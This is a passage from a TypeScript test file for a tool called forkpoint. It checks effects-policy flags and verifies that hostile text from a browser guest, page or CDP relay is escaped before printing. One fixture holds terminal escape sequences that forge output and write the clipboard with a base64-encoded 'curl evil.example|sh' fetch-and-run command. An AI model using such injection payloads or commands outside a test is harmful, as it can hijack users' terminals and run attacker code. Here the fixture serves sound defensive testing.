        expect(r.stderr).toContain(`${dir}/.forkpoint/effects.json sets an HTTP effects policy`)
        expect(r.stderr).toMatch(/sandboxed candidates hold them.*--allow-unsandboxed-effects/)
      }
      expect(existsSync(join(dir, 'ran'))).toBe(false)
      expect(JSON.parse((await cli('branch', '--list', '--json')).stdout)).toMatchObject({ branches: [] })
      expect(mail.received).toEqual([])
    })

    it(`--allow-unsandboxed-effects runs them through the proxy and the Node hook, and says effects may escape (${user})`, async () => {
      const { dir, cli } = await policyWorkspace(user)
      const r = await cli('speculate', '--no-isolate', '--allow-unsandboxed-effects', '--json', '-c', 'node send.mjs > sent.txt', '-c', 'node send.mjs > sent.txt')
      expect(r.code, r.stderr).toBe(0)
      expect(r.stderr).toMatch(/^forkpoint: warning: effects may escape: .*\.forkpoint\/effects\.json/m)
      const outcome = JSON.parse(r.stdout) as { winner: number; warnings: string[] }
      expect(outcome.warnings).toEqual([expect.stringMatching(/^effects may escape/)])
      // Node's fetch went through the hook: held (202) in the branch, sent once when the winner committed
      expect(readFileSync(join(dir, 'sent.txt'), 'utf8')).toBe('202\n')
      expect(mail.received.map((m) => m.idempotencyKey)).toEqual([`hook-${outcome.winner}`])
    })
  }

  it('the library: isolate: false throws a UsageError; allowUnsandboxedEffects runs and warns', async () => {
    const { dir } = await policyWorkspace('root')
    const ws = await Workspace.open({ dir })
    const refused = await bestOfN({ cmd: 'touch ran' }, { n: 1, isolate: false })
      .apply(ws)
      .catch((err: unknown) => err)
    expect(refused).toBeInstanceOf(UsageError)
    expect((refused as UsageError).exitCode).toBe(2)
    expect(existsSync(join(dir, 'ran'))).toBe(false)
    const outcome = await bestOfN({ cmd: 'touch ran' }, { n: 1, isolate: false, allowUnsandboxedEffects: true }).apply(ws)
    expect([outcome.committed, outcome.warnings]).toEqual([true, [expect.stringMatching(/^effects may escape/)]])
    expect(existsSync(join(dir, 'ran'))).toBe(true)
    // function candidates are never refused: they get no proxy, only the pattern's effects handle
    expect((await bestOfN(() => true, { n: 1, isolate: false }).apply(ws)).warnings).toBeUndefined()
  })
})

describe('a hostile browser guest or page: its answers are bounded, its text printed inert', () => {
  // what a page chooses as its exception text: set the window title, erase the line, forge a line, write the clipboard (OSC 52)
  const HOSTILE_TEXT = 'Error: \x1b]0;owned title\x07\x1b[2K\rforkpoint: machine m1 ok\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\u009b31m'
  const CONTROLS = /[\u0000-\u001f\u007f-\u009f]/
  const ref = { machine: 'm1' }

  afterEach(() => vi.restoreAllMocks())

  function guestAnswers(answer: { exitCode: number; stdout: string; stderr: string }): void {
    vi.spyOn(qemuBackend, 'exec').mockResolvedValue(answer)
  }

  async function evalError(): Promise<Error & { exitCode?: number; data?: unknown }> {
    return (await evalInMachine({ ...ref, js: 'app.state()' }).then(
      () => expect.unreachable('the eval should fail'),
      (err: unknown) => err,
    )) as Error
  }

  it('an answer nesting past the depth limit is bad data (exit 5), not a stack overflow', async () => {
    guestAnswers({ exitCode: 0, stdout: `{"value":${'['.repeat(100_000)}${']'.repeat(100_000)}}\n`, stderr: '' })
    const err = await evalError()
    expect(err).toBeInstanceOf(CorruptDataError)
    expect(err.exitCode).toBe(5)
  })

  it("the page's exception text reaches the message with every control escaped, raw only in data", async () => {
    guestAnswers({ exitCode: 0, stdout: `${JSON.stringify({ exception: HOSTILE_TEXT })}\n`, stderr: '' })
    const err = await evalError()
    expect(err).toBeInstanceOf(PageScriptError)
    expect(err.message).not.toMatch(CONTROLS)
    expect(err.message).toContain('\\x1b]52;c;')
    expect(err.data).toMatchObject({ exception: HOSTILE_TEXT })
  })

  it("the guest client's stderr reaches the message with every control escaped", async () => {
    guestAnswers({ exitCode: 1, stdout: '', stderr: HOSTILE_TEXT })
    const err = await evalError()
    expect(err).toBeInstanceOf(MachineError)
    expect(err.message).not.toMatch(CONTROLS)
    expect(err.message).toContain('owned title')
  })

  /** A hostile CDP relay on a Unix socket: it writes `pieces` once a client connects, `later` once the client sent more than its open frame. */
  async function relay(pieces: Buffer[], later: Buffer[] = []): Promise<string> {
    const { createServer } = await import('node:net')
    const path = join(tempDir('hostile-relay'), 'cdp.sock')
    const server = createServer((socket) => {
      for (const piece of pieces) socket.write(piece)
      let heard = 0
      socket.on('data', (bytes: Buffer) => {
        const before = heard
        heard += bytes.length
        if (before <= 5 && heard > 5) for (const piece of later) socket.write(piece)
      })
    })
    await new Promise<void>((resolve) => server.listen(path, resolve))
    relays.push(server)
    return path
  }
  const relays: { close(): void }[] = []
  afterAll(() => relays.forEach((server) => server.close()))

  function split(bytes: Buffer, size: number): Buffer[] {
    const pieces: Buffer[] = []
    for (let at = 0; at < bytes.length; at += size) pieces.push(bytes.subarray(at, at + size))
    return pieces
  }

  function frame(kind: string, payload: Buffer): Buffer {
    const head = Buffer.alloc(5)
    head.write(kind, 0, 'latin1')
    head.writeUInt32BE(payload.length, 1)
    return Buffer.concat([head, payload])
  }

  it("a relay's refusal text reaches the message with every control escaped", async () => {
    const path = await relay([frame('E', Buffer.from(HOSTILE_TEXT))])
    const err = (await CdpSession.open(path, 'm1').then(
      () => expect.unreachable('the session should be refused'),
      (e: unknown) => e,
    )) as Error
    expect(err).toBeInstanceOf(MachineError)
    expect(err.message).not.toMatch(CONTROLS)
  })

  it('frames split over many chunks, and frames back to back, arrive whole and in order', async () => {
    const big = Buffer.alloc(3 * 2 ** 20 + 7, 0)
    for (let i = 0; i < big.length; i++) big[i] = (i * 31) & 0xff
    const small = [Buffer.from('one'), Buffer.from(''), Buffer.from('three')]
    const first = Buffer.concat([frame('O', Buffer.alloc(0)), frame('D', big)])
    const smalls = Buffer.concat([...small.map((p) => frame('D', p)), frame('R', Buffer.from('x'))])
    // byte by byte where frame heads are, so even a head arrives split; elsewhere pieces the size a virtio port delivers
    const path = await relay([...split(first.subarray(0, 16), 1), ...split(first.subarray(16), 65536), ...split(smalls, 1), ...split(frame('D', big), 65536)])
    const session = await CdpSession.open(path, 'm1')
    const got: Buffer[] = []
    session.onData((bytes) => got.push(bytes))
    await until(() => got.length === 5, 'five data frames')
    session.close()
    expect(got[0]!.equals(big)).toBe(true)
    expect(got.slice(1, 4).map(String)).toEqual(['one', '', 'three'])
    expect(got[4]!.equals(big)).toBe(true)
  })

  it('backpressure: a guest that stops reading makes write report a full queue until it drains; a paused session delivers nothing', async () => {
    const { createServer } = await import('node:net')
    const path = join(tempDir('slow-relay'), 'cdp.sock')
    let guestSide: import('node:net').Socket | undefined
    const server = createServer((socket) => {
      guestSide = socket
      socket.write(frame('O', Buffer.alloc(0)))
      socket.pause()
    })
    await new Promise<void>((resolve) => server.listen(path, resolve))
    relays.push(server)
    const session = await CdpSession.open(path, 'm1')
    let writes = 0
    while (session.write(Buffer.alloc(64 * 1024))) expect(++writes).toBeLessThan(100_000)
    let drained = false
    session.onceDrain(() => (drained = true))
    guestSide!.resume()
    await until(() => drained, 'the queue toward the guest drained')

    const got: Buffer[] = []
    session.onData((bytes) => got.push(bytes))
    session.pause()
    guestSide!.write(frame('D', Buffer.from('late')))
    await new Promise((resolve) => setTimeout(resolve, 200))
    expect(got).toEqual([])
    session.resume()
    await until(() => got.length === 1, 'the frame after resume')
    expect(String(got[0])).toBe('late')
    session.close()
  })

  it('a frame over the size cap is refused as bad data before its payload arrives', async () => {
    const head = Buffer.alloc(5)
    head.write('D', 0, 'latin1')
    head.writeUInt32BE(64 * 2 ** 20 + 1, 1)
    const path = await relay([frame('O', Buffer.alloc(0))], split(head, 2))
    const session = await CdpSession.open(path, 'm1')
    let closed = false
    session.onClose(() => (closed = true))
    session.write(Buffer.from('GET /json/version HTTP/1.1\r\n\r\n'))
    await until(() => closed, 'the session refused')
  })
})
